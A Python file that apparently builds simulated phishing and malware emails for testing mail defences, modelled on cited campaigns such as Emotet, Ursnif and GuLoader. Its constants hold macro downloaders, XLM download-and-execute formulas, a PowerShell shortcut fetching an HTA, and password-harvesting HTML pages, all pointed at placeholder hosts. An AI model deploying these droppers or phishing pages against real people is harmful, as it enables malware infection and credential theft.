"""Mass mail of every day, 2016 to 2024: Japanese waves of several years, information stealers in all containers, pages that ask for passwords."""
from base64 import b64encode
from recipe import Recipe, auth
from making import alternative, hops, pdf, program, zipped
from kit import Iso, Pdf, Rar5, Rtf, SevenZip, Zip, docs, icons, lnk, office, onenote, programs

PDF_RED, EXCEL = (200, 30, 30), (33, 115, 70)
# As the waves of the end of 2018 had them: letters put together from cells, the country asked first.
PICTURE_VBA = """Private Sub Workbook_Open()
    If Application.LanguageSettings.LanguageID(1) <> 1041 Then Exit Sub
    Dim k As Integer, q As String
    For k = 3 To 41
        q = q & Chr(Asc(Mid(Sheets(1).Range("D7").Text, k, 1)) Xor 5)
    Next
    Shell "cmd /c " & q & " http://img.example.invalid/u/9kx.png", 0
End Sub
"""
GATE_VBA = """Sub Workbook_Open()
    Dim z: z = Array(112, 111, 119, 101, 114, 115, 104, 101, 108, 108)
    For Each c In z: r = r & Chr(c): Next
    CreateObject("WScr" & "ipt.Shell").Run r & " -nop -w 1 iwr http://entrate.example.invalid/s.dll -OutFile $env:temp\\s.dll", 0
End Sub
"""
HEAVY_VBA = """Sub AutoOpen()
    Dim d As String: d = Environ("USERPROFILE") & "\\kwuq.dll"
    With CreateObject("MSXML2.ServerXMLHTTP"): .Open "GET", "http://wp.example.invalid/x/19/", False: .Send
    b = .responseBody: End With
    Open d For Binary As #1: Put #1, , b: Close #1
    Shell "regsvr32 /s " & d, vbHide
End Sub
"""
XLM = ['=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://shop.example.invalid/cgi/Ud8/","..\\besta.ocx",0,0)',
       '=EXEC("C:\\Windows\\SysWow64\\rundll32.exe ..\\besta.ocx,D""&""llRegisterServer")', "=RETURN()"]
GULOADER_VBS = "".join("Skramle%d = Skramle%d & \"%s\"\r\n" % (i % 7, i % 7, c) for i, c in enumerate(["Fo", "rk", "la", "re", "T$", "ne", "S."] * 20)) + \
    "Set Unf = CreateObject(\"WScript.Shell\")\r\nUnf.Run \"powershell \" & Chr(34) & Skramle0 & Chr(34), 0\r\n"
SETTING = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><ApplicationInformation>"
           "<AppID>windows.immersivecontrolpanel_cw5n1h2txyewy!microsoft.windows.immersivecontrolpanel</AppID>"
           "<DeepLink>%windir%\\system32\\cmd.exe /c start http://p.example.invalid/km</DeepLink><Icon>%windir%\\system32\\control.exe</Icon>"
           "</ApplicationInformation></SearchableContent></PCSettings>").encode()
COURIER_HTML = ("<html><head><title>DHL | Shipment Document</title><style>body{background:#fc0;font-family:Arial}</style></head><body><div style='background:#fff;width:380px;margin:80px auto;padding:24px'>"
                "<h3>Sign in to view AWB 7219940361</h3><form action='https://forms.example.invalid/api/send.php' method='post'>"
                "<input name='email' value='%s' readonly><br><input name='pass' type='password' placeholder='Email password' required><br><button>View document</button></form>"
                "<script>document.forms[0].onsubmit=function(){setTimeout(function(){location='https://www.dhl.com'},900)}</script></div></body></html>")
VOICE_HTML = "<script>var e='%s';document.write(unescape('%s'))</script>"


def voice(address):
    page = ("<html><head><title>Microsoft アカウントにサインイン</title></head><body><form method=post action=https://login.example.invalid/n/><h2>パスワードの入力</h2><p>" + address +
            "</p><input type=password name=passwd><input type=submit value=サインイン></form></body></html>")
    return (VOICE_HTML % (b64encode(address.encode()).decode(), "".join("%%u%04x" % ord(c) for c in page))).encode()


RECIPES = [
    Recipe("m-daily-parking", "mass", "JC3, virus mails of 2017 (Ursnif): a report of forbidden parking in a zip; the wording is ours",
           "A report of forbidden parking without a word on whom; in the zip lies a script.", "駐禁報告書", "takeda_ryou@nifty-mail.example", charset="iso-2022-jp", to="soumu@example.co.jp",
           date="Tue, 17 Jan 2017 08:22:15 +0900",
           body="お疲れ様です。\n\n駐禁報告書を送りします。\n\n対象は、No.3 になります。\n\nよろしくお願い致します。\n", client=("mm-203-0-113-166.dynamic.example", "203.0.113.166"),
           message_id="<5B9F0A4D-81C7@nifty-mail.example>",
           finish=hops("from [10.113.7.20] (mm-203-0-113-166.dynamic.example [203.0.113.166]) by nifty-mail.example with ESMTP id 77FA; Tue, 17 Jan 2017 08:21:14 +0900"),
           headers=[auth("none", domain="nifty-mail.example"), ("X-Mailer", "iPhone Mail (13G36)")],
           attach=[("駐禁報告書.zip", zipped(("駐禁報告書(3).js", programs.FETCH_JS.encode())), "application/zip")]),

    Recipe("m-daily-sagawa", "mass", "MITRE ATT&CK T1566.001 and T1036.007 (double endings), as carriers in Japan warned of in 2016; the wording is ours",
           "A carrier's notice on a parcel kept; a .scr with a PDF's picture in a zip whose name is a number.", "【佐川急便】お荷物保管のご連絡(伝票 5012-77)", "hokan@sagawa-tsuuchi.example", name="佐川急便 営業所",
           twin="b-world-parcel", to="eigyo@example.co.jp", date="Thu, 17 Mar 2016 13:29:58 +0900",
           body="お客様各位\n\n平素は佐川急便をご利用頂き有難う御座います。\n\n配達に伺いましたがご不在でしたのでお荷物を保管しております。\n保管期限:3月21日\n\n詳細は添付のご案内をご印刷の上、最寄りの営業所までお持ち下さい。\n\n※本メールは送信専用です。\n",
           client=("203-0-113-52.broadband.example", "203.0.113.52"), message_id="<000a01d17ffc$2c19ba80$844d2f80$@sagawa-tsuuchi.example>",
           headers=[("Return-Path", "<c88@sagawa-tsuuchi.example>"), auth("softfail", domain="sagawa-tsuuchi.example"), ("X-Mailer", "Microsoft Outlook Express 6.00.2800.1409")],
           attach=[("501277440913.zip", zipped(("お荷物のご案内_501277440913.pdf.scr", program(icons.document(accent=PDF_RED), 115000, packed=True, stamp=0x56E94000))), "application/zip")]),

    Recipe("m-daily-rakuten", "mass", "JC3 and Rakuten, notices of 2017 and 2018: confirmations of orders that lead to Ursnif",
           "A shop's confirmation of an order, copied; every link leads to one zip elsewhere.", "【楽天市場】注文内容ご確認(自動配信メール)", "order@rakuten.co.jp", name="楽天市場", hard=True, to="koubai@example.co.jp",
           charset="iso-2022-jp", date="Tue, 12 Dec 2017 09:36:40 +0900",
           body="この度は楽天市場内のショップをご利用いただきまして、誠にありがとうございます。\n本メールは、ご注文の受付を確認する自動配信メールです。\n\n[受注番号] 248811-20171211-0840331\n[合計] 24,800(円)\n",
           html="<p>この度は楽天市場内のショップをご利用いただきまして、誠にありがとうございます。</p><p>本メールは、ご注文の受付を確認する自動配信メールです。</p><p>[受注番号] <a href='http://cart.example.invalid/img/order.zip'>248811-20171211-0840331</a><br>[支払方法] クレジットカード決済<br>[合計] 24,800(円)</p>"
                "<p><a href='http://cart.example.invalid/img/order.zip'>https://order.my.rakuten.co.jp/</a></p>",
           client=("ppp-203-0-113-239.revip.example", "203.0.113.239"), message_id="<20171212003640.C7A1E0@rakuten.co.jp>", finish=alternative,
           headers=[auth("fail", "none", "fail", "rakuten.co.jp"), ("X-Priority", "3")]),

    Recipe("m-daily-nouhin", "mass", "JC3 and Trend Micro, October to December 2018: .xls with steganography to Japan (Bebloh, Ursnif); the wording is ours",
           "A form of a delivery note from a surname; an .xls whose macro asks for Japanese first.", "納品書フォーマットの送付", "kanazawa-y@butsuryu-mail.example", name="金澤", to="keiri@example.co.jp",
           charset="iso-2022-jp", date="Tue, 18 Dec 2018 16:12:23 +0900",
           body="いつもお世話になっております。\n\n納品書のフォーマットを添付いたしますので、\nご確認の上、来週中にご返送願います。\n\n以上、よろしくお願い致します。\n\n金澤\n", client=("b2b-203-0-113-25.unitymedia.example", "203.0.113.25"),
           message_id="<5C189D97.2010804@butsuryu-mail.example>",
           headers=[auth("none", domain="butsuryu-mail.example"), ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; WOW64; rv:60.0) Gecko/20100101 Thunderbird/60.3.1")],
           attach=[("D O C1812201844160.xls", office.xls(PICTURE_VBA, text="納品書\n編集を有効にする\nコンテンツの有効化を押してください"), "application/vnd.ms-excel")]),

    Recipe("m-daily-emotet-xlsm", "mass", "IPA and JPCERT/CC, November and December 2021: Emotet is back with .docm, .xlsm and locked zips",
           "Emotet answers with one line and a locked zip; the password and a false signature stand below.", "Re: 研修会場の下見について", "contabilidad@muebles.example", name="研修センター 三好", hard=True,
           twin="b-office-ppap-same", to="jinji@example.ac.jp", charset="utf-8", date="Thu, 02 Dec 2021 15:51:09 +0100",
           body="ご確認お願い致します。\n\n{password}\n\n研修センター 三好\nmiyoshi@kenshu-center.example\n\n> 三好様\n> 下見は12月9日の午後でお願いいたします。\n> 例示研究所 人事課\n", password_line="ZIPファイルのパスワード: 8271",
           client=("sh-pro21.hosting.example", "203.0.113.121"), message_id="<3377415182.20211202145109@muebles.example>",
           finish=hops("from [203.0.113.219] (port=52114 helo=kenshu-center.example) by sh-pro21.hosting.example with esmtpa (Exim 4.94.2) id 1mspQz-0005nB; Thu, 02 Dec 2021 15:51:06 +0100"),
           headers=[auth("pass", "none", "none", "muebles.example")],
           attach=[("2021-12-02_1551.zip", zipped(("2021-12-02_1551.xlsm", office.xlsm_xlm(XLM, text="Enable Editing, then Enable Content")), password="8271"), "application/zip")]),

    Recipe("m-daily-emotet-heavy", "mass", "IPA, Emotet, March 2023: Word files of more than 500 MB in zips (here 6 MB)",
           "Emotet sends a zip in which a Word file was blown up with zeros.", "請求書 03/08", "sklep@ogrod-kwiaty.example", name="例示研究所 経理課", to="keiri@example.ac.jp", charset="utf-8",
           date="Wed, 08 Mar 2023 07:18:44 +0000",
           body="平素は格別のご高配を賜り厚く御礼申し上げます。\n\n請求書を添付致しましたので、ご査収の程お願い申し上げます。\n", client=("s17.hosting-pl.example", "203.0.113.17"), message_id="<e3b1f0c84411@ogrod-kwiaty.example>",
           headers=[auth("pass", "pass", "none", "ogrod-kwiaty.example"), ("X-Mailer", "Microsoft Outlook 16.0")],
           attach=[("INVOICE 03_08.zip", lambda: zipped(("INVOICE 03_08.doc", office.doc(HEAVY_VBA, text="This document is protected. Previewing is not available for protected documents.") + bytes(6 << 20))), "application/zip")]),

    Recipe("m-daily-jp-gz", "mass", "vendors and IPA, 2021 to 2024: Japanese mails with information stealers (Agent Tesla, FormBook); the wording is ours",
           "A request for a quotation in good Japanese in the name of a university's shop; a program in a .gz.", "RE: 御見積依頼書(2024年度分)_Q-0817", "purchase@seikyo-gakuin.example", name="購買部 中里",
           hard=True, to="eigyo@example.co.jp", charset="utf-8", date="Mon, 15 Apr 2024 03:02:41 +0000",
           body="お世話になっております。購買部の中里です。\n\n添付の依頼書のとおり、御見積をお願いいたします。\n納期と最小ロットも併せてご回答ください。\n\n4月17日(水)正午までにご返信いただけますと幸いです。\n\n中里\n", client=("vps-9041.cloudhost.example", "203.0.113.41"),
           message_id="<7b0c8f1e9a21d5@seikyo-gakuin.example>",
           finish=hops("from localhost (localhost [127.0.0.1]) by vps-9041.cloudhost.example (Postfix) with ESMTPA id 7B0C8; Mon, 15 Apr 2024 03:02:39 +0000"),
           headers=[auth("softfail", "none", "none", "seikyo-gakuin.example"), ("User-Agent", "Roundcube Webmail/1.6.0"), ("Reply-To", "seikyo.kobai@mail.example")],
           attach=[("御見積依頼書_Q-0817.pdf.gz", docs.gz("Q-0817_pdf.exe", program(icons.document(accent=PDF_RED), 130000, packed=True, stamp=0x661C0000)), "application/gzip")]),

    Recipe("m-daily-yucho", "mass", "Council of Anti-Phishing Japan, monthly reports of 2023 and 2024: names of banks, links that show another address",
           "A bank's notice of a stop of transfers; the link shows the bank's address and leads elsewhere.", "【ゆうちょ銀行】お取引目的等の確認のお願い", "mail@jp-bank-kakunin.example", name="ゆうちょ銀行",
           to="soumu@example.ac.jp", charset="utf-8", date="Sun, 04 Feb 2024 23:50:18 +0800",
           html="<p>お客さま</p><p>平素よりゆうちょ銀行をご利用いただきありがとうございます。</p><p>当行では、犯罪収益移転防止法に基づき、お取引目的等の確認をお願いしております。期限までにご回答がない場合、送金サービスの一部を停止させていただきます。</p>"
                "<p><a href=\"https://jp-bank.example.invalid/k/?i=8811\">https://www.jp-bank.japanpost.jp/kakunin</a></p><p>※回答の所要時間は約3分です。<br>(c) JAPAN POST BANK Co., Ltd.</p>",
           client=("c-203-0-113-205.compute.example", "203.0.113.205"), message_id="<20240204235018883412@jp-bank-kakunin.example>",
           headers=[auth("pass", "none", "none", "jp-bank-kakunin.example"), ("X-Mailer", "Supmailer 40.1.2")]),

    Recipe("m-daily-voice-html", "mass", "Barracuda, June 2022, and Trustwave, 2021 to 2023: HTML attachments that ask for passwords; the wording is ours",
           "A message on the answering machine, in Japanese; the page hides a form in escapes and knows the reader's address.", "音声メッセージを1件受信しました (00:41)", "voice-noreply@pbx-notify.example",
           name="Cloud PBX", hard=True, to="kikaku@example.ac.jp", charset="utf-8", date="Mon, 12 Sep 2022 01:14:37 +0000",
           body="kikaku 様\n\n新しい音声メッセージがあります。\n\n発信者: 非通知\n長さ: 00:41\n\n再生するには添付ファイルを開いてください。\n", client=("o77.mailer.example", "203.0.113.77"), message_id="<0101018330f1-7b2c@pbx-notify.example>",
           headers=[auth("pass", "pass", "none", "pbx-notify.example")],
           attach=[("VM_0912_kikaku.htm", voice("kikaku@example.ac.jp"), "text/html")]),

    Recipe("m-daily-dhl-html", "mass", "Kaspersky, May 2022: HTML attachments in phishing mail; the wording is ours",
           "A carrier's shipment; the page asks for the password of the reader's mail.", "DHL Express: Shipment Arrival Notice AWB 7219940361", "express@dhl-arrival.example", name="DHL Express",
           to="eigyo@example.co.jp", charset="utf-8", date="Fri, 22 Jul 2022 05:06:12 -0700",
           html="<p>Dear Customer,</p><p>Your parcel has arrived at our facility. Due to an incorrect address we could not deliver it. Please review the attached document and confirm your address.</p><p>DHL Express Team</p>",
           client=("server.premium-web.example", "203.0.113.107"), message_id="<E1oEqvA-0004Zk-9d@server.premium-web.example>",
           headers=[auth("fail", domain="dhl-arrival.example"), ("X-PHP-Script", "shop.example/wp-content/s.php")],
           attach=[("AWB_7219940361.html", (COURIER_HTML % "eigyo@example.co.jp").encode(), "text/html")]),

    Recipe("m-daily-rfq-img", "mass", "Netskope, June 2019: LokiBot and NanoCore in small disc images",
           "A request for a quotation; the image holds nothing but a program.", "RFQ #PR-20-0614 // URGENT", "procurement@petro-services.example", name="Ahmed Salem", to="undisclosed-recipients:;",
           charset="utf-8", date="Wed, 17 Jun 2020 04:40:33 +0300",
           body="Dear Sir/Madam,\n\nWe are interested in purchasing your products. Kindly find attached our RFQ and quote us your best CIF price, with delivery time and payment terms.\n\nThanks & Regards\nAhmed Salem\nProcurement Officer\n",
           client=("ded-203-0-113-64.hosting.example", "203.0.113.64"), message_id="<20200617044033.8E2A77@petro-services.example>",
           finish=hops("from [203.0.113.12] (helo=webmail) by ded-203-0-113-64.hosting.example with esmtpa (Exim 4.93) id 1jlNDb-00031c; Wed, 17 Jun 2020 04:40:24 +0300"),
           headers=[auth("none", domain="petro-services.example"), ("User-Agent", "Roundcube Webmail/1.3.10")],
           attach=[("RFQ_PR-20-0614.img", Iso(volume="RFQ", joliet=True).add("RFQ_PR-20-0614.exe", program(icons.logo(), 150000, packed=True, stamp=0x5EE90000)).bytes(), "application/octet-stream")]),

    Recipe("m-daily-po-r00", "mass", "AhnLab ASEC, weekly statistics of phishing mail, 2022 and 2023: information stealers in .r00, .gz and .z",
           "A new order; a rar under the ending of a second volume holds a program.", "New Order PO#220319-AL", "sales.mgr@al-noor-trading.example", name="Mrs. Fatima K.", to="eigyo@example.co.jp",
           charset="us-ascii", date="Tue, 22 Mar 2022 22:33:09 -0400",
           body="Good Day,\n\nPlease see attached new order. Kindly send PI so that we can arrange deposit.\nConfirm also the HS code.\n\nRegards,\nFatima\n",
           client=("slot0.relay.example", "203.0.113.15"), message_id="<a4c9e1db7720bf@al-noor-trading.example>",
           headers=[auth("softfail", domain="al-noor-trading.example"), ("Reply-To", "fatima.alnoor@mail.example")],
           attach=[("PO220319-AL.r00", Rar5().add("PO220319-AL.exe", program(icons.document(accent=EXCEL), 125000, packed=True, stamp=0x62390000)).bytes(), "application/octet-stream")]),

    Recipe("m-daily-swift-vbs", "mass", "Check Point, May 2023: GuLoader by scripts of Visual Basic; the wording is ours",
           "A copy of a transfer; in a 7z lies a long script of random words.", "FW: Payment Advice - Ref [HSBC-0088213]", "advising.svc@hsbc-payment.example", name="HSBC Advising Service",
           to="keiri@example.co.jp", charset="utf-8", date="Thu, 09 Nov 2023 09:01:57 +0000",
           body="Sir/Madam,\n\nThe attached payment advice is issued at the request of our customer. The advice is for your reference only.\n\nYours faithfully,\nGlobal Payments and Cash Management\n",
           client=("mx-out.kargo.example", "203.0.113.182"), message_id="<20231109090157.3BE1FA@hsbc-payment.example>", headers=[auth("fail", "none", "fail", "hsbc-payment.example")],
           attach=[("Payment_Advice_0088213.7z", SevenZip().add("Payment_Advice_0088213.vbs", GULOADER_VBS.encode()).bytes(), "application/x-7z-compressed")]),

    Recipe("m-daily-shipping-one", "mass", "Trustwave, December 2022 and January 2023: notebooks of OneNote in mass mail (AsyncRAT, Formbook)",
           "Papers of a shipment as a notebook; behind the button lies a .wsf.", "Shipping documents BL/INV/PL - MV Hoegh Trader", "docs@ocean-forwarding.example", name="Documentation Desk",
           to="koubai@example.co.jp", charset="utf-8", date="Mon, 16 Jan 2023 06:22:50 +0000",
           body="Dear Consignee,\n\nAttached are the shipping documents for your reference. Double click to view the file. Kindly revert with your comments.\n\nBest Regards\n",
           client=("host-74.dedi.example", "203.0.113.74"), message_id="<CY4PR11MB10A1@ocean-forwarding.example>", headers=[auth("none", "none", "none", "ocean-forwarding.example")],
           attach=[("ShippingDocs.one", onenote([("view.png", b"\x89PNG\r\n\x1a\n" + docs.noise(1200)), ("Docs.wsf", b"<job><script language=\"VBScript\">\r\n" + programs.FETCH_VBS.encode() + b"</script></job>")]), "application/onenote")]),

    Recipe("m-daily-lnk-zip", "mass", "Cyble, June 2022: shortcuts by the builder Quantum in mass mail",
           "A statement of account; the zip holds a shortcut with a PDF's picture that starts mshta.", "Statement of Account - May 2022 (overdue)", "ar.dept@packing-goods.example",
           name="Accounts Receivable", to="keiri@example.co.jp", charset="us-ascii", date="Thu, 30 Jun 2022 11:15:05 +0200",
           body="Dear customer,\n\nour system shows 3 invoices past due. See the statement and settle the balance today to avoid interest.\n\nAccounts Receivable\n",
           client=("srv201.vserver.example", "203.0.113.201"), message_id="<62bd6a89.1c69fb@packing-goods.example>",
           headers=[auth("none", domain="packing-goods.example"), ("X-Mailer", "PHPMailer 5.2.28")],
           attach=[("Statement_May2022.zip", zipped(("Statement_May2022.pdf.lnk", lnk("-nop -w hidden -c \"mshta http://q.example.invalid/s.hta\"", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    icon="C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", icon_index=11, show=7))), "application/zip")]),

    Recipe("m-daily-pdf-link", "mass", "Cofense, November 2023: DarkGate and PikaBot in stolen threads; here by a PDF with one link",
           "A stolen thread goes on with a PDF, which says that it cannot be shown and has one link.", "RE: Delivery terms", "arnau@fusta-i-ferro.example", name="Arnau Puig", hard=True, alone=False,
           to="eigyo@example.co.jp", charset="utf-8", date="Wed, 18 Oct 2023 16:40:28 +0200",
           body="Hello,\n\nthe file with the changes is attached. Let me know.\n\nOn Mon, 9 Oct 2023 eigyo wrote:\n> Dear Arnau, FOB Barcelona is fine with us.\n",
           client=("mail.paper-mill.example", "203.0.113.86"), message_id="<652fee2c.050a0220.11@fusta-i-ferro.example>",
           finish=hops("from [203.0.113.230] (unknown [203.0.113.230]) by mail.paper-mill.example (Postfix) with ESMTPSA id 4S9Yq; Wed, 18 Oct 2023 16:40:21 +0200"),
           headers=[auth("pass", "pass", "none", "fusta-i-ferro.example"), ("In-Reply-To", "<65239a10.3060908@example.co.jp>")],
           attach=[("Scan_181023.pdf", pdf("This document is stored in the cloud\nOPEN", "https://dav.example.invalid/v/181023/"), "application/pdf")]),

    Recipe("m-daily-settingcontent", "mass", "Proofpoint, July 2018: TA505 sends PDF files that hold a .SettingContent-ms (FlawedAmmyy)",
           "An invoice as a PDF whose script opens the settings file that it holds.", "Invoice INV-55120377", "billing@office-clean.example", name="Billing", to="keiri@example.co.jp",
           charset="us-ascii", date="Mon, 16 Jul 2018 12:09:15 +0100",
           body="Hi,\n\nplease see the invoice attached.\n\nRegards\n", client=("203-0-113-157.static.example", "203.0.113.157"), message_id="<20180716110915.7C2B@office-clean.example>",
           headers=[auth("softfail", domain="office-clean.example"), ("X-Mailer", "Apple Mail (2.3273)")],
           attach=[("INV-55120377.pdf", Pdf().page(["Invoice"]).embed("downl.SettingContent-ms", SETTING).script('this.exportDataObject({cName:"downl.SettingContent-ms",nLaunch:2});').bytes(), "application/pdf")]),

    Recipe("m-daily-equation", "mass", "Microsoft Security Intelligence, June 2019: mass mail with RTF files for the hole in the equation editor (CVE-2017-11882)",
           "A contract as .doc, which is an RTF with an object of the equation editor (its content is noise).", "Sales Contract No. SC19-2207 for signature", "export3@textile-mills.example",
           name="Mr. Rakesh", to="koubai@example.co.jp", charset="us-ascii", date="Mon, 22 Jul 2019 14:52:31 +0530",
           body="Dear Sir,\n\nPls find attached sales contract, kindly sign and return the copy for our record.\n\nWith best regards,\nRakesh\n", client=("cloud771.server.example", "203.0.113.71"),
           message_id="<2b88e19c07@textile-mills.example>", headers=[auth("none", domain="textile-mills.example"), ("User-Agent", "SquirrelMail/1.4.23 [SVN]")],
           attach=[("SC19-2207.doc", Rtf().object("Equation.3", docs.noise(3200), updates=True).bytes(), "application/msword")]),

    Recipe("m-daily-entrate", "mass", "CERT-AgID, 2020 and 2021: Ursnif in Italian mails in the name of the revenue agency",
           "In Italian, differences found by the tax office; a workbook with macros in a zip with its password.",
           "IL DIRETTORE DELL'AGENZIA: verifiche sui pagamenti", "ufficio.accertamenti@entrate-avvisi.example", name="Agenzia delle Entrate", to="soumu@example.co.jp", charset="iso-8859-1",
           date="Mon, 29 Mar 2021 10:30:44 +0200",
           body="Gentile contribuente,\n\ndall'esame dei dati e dei saldi relativi alla liquidazione periodica sono emerse alcune incoerenze. "
                "Può prendere visione della documentazione allegata.\n{password}\n\nIl Direttore\n", password_line="Password: entrate",
           client=("host-203-0-113-33.retail.example", "203.0.113.33"), message_id="<4C6D7710-0E1B@entrate-avvisi.example>", headers=[auth("softfail", domain="entrate-avvisi.example")],
           attach=[("verifiche_29_03.zip", zipped(("verifiche_29_03.xlsm", office.xlsm(GATE_VBA, text="Abilita contenuto")), password="entrate"), "application/zip")]),

    Recipe("m-daily-copyright", "mass", "AhnLab ASEC, June 2022: ransomware LockBit in mails that claim a breach of copyright",
           "In Korean, a painter claims that her pictures are used; in a locked zip lies a program with blanks before its end.", "저작권 위반 관련 내용 안내드립니다", "han.jisoo.art@hanmail-art.example", name="한지수",
           hard=True, to="kouhou@example.ac.jp", charset="euc-kr", date="Fri, 24 Jun 2022 03:48:02 +0900",
           body="안녕하세요. 일러스트레이터 한지수입니다.\n\n귀사 홈페이지에서 제가 제작한 이미지를 이용하고 계신 것을 확인하였습니다.\n원본 이미지와 사용하고 계신 이미지를 정리하여 보내드리니 확인 후 조치 부탁드립니다.\n{password}\n", password_line="비밀번호: 0624",
           client=("ip-203-0-113-48.vultr.example", "203.0.113.48"), message_id="<a91e6f7c@hanmail-art.example>", headers=[auth("none", domain="hanmail-art.example")],
           attach=[("이미지 정리.zip", Zip().add("원본 이미지와 사용중인 이미지.pdf" + " " * 60 + ".exe", program(icons.document(accent=PDF_RED), 100000, packed=True, stamp=0x62B20000),
           charset="cp949", password="0624").bytes(), "application/zip")]),

    Recipe("m-daily-soa-tgz", "mass", "MITRE ATT&CK T1566.001, information stealers of 2020 to 2023 in archives that Windows does not open; the wording is ours",
           "A statement in a .tgz whose program is named like a bank's form; sent to hidden readers from a server's webmail.", "SOA & overdue invoices", "finance@island-logistics.example",
           name="Finance Team", to="undisclosed-recipients:;", charset="utf-8", date="Thu, 23 Feb 2023 19:44:11 +0800",
           body="Dear Valued Partner\n\nPlease find attached SOA for JAN-FEB 2023 for your kind checking and early settlement.\n\nThank you\nFinance Team\n",
           client=("cp33.web-host.example", "203.0.113.133"), message_id="<63f750cb.4d2a@island-logistics.example>",
           finish=hops("from 203.0.113.99 ([203.0.113.99]) by cp33.web-host.example (Horde Framework) with HTTPS; Thu, 23 Feb 2023 19:44:00 +0800"),
           headers=[auth("pass", "none", "none", "island-logistics.example"), ("User-Agent", "Horde Application Framework 5")],
           attach=[("SOA_JAN-FEB_2023.tgz", docs.tar_gz([("SOA_JAN-FEB_2023.com", program(icons.document(accent=EXCEL), 110000, packed=True, stamp=0x63F60000))]), "application/x-compressed-tar")]),
]
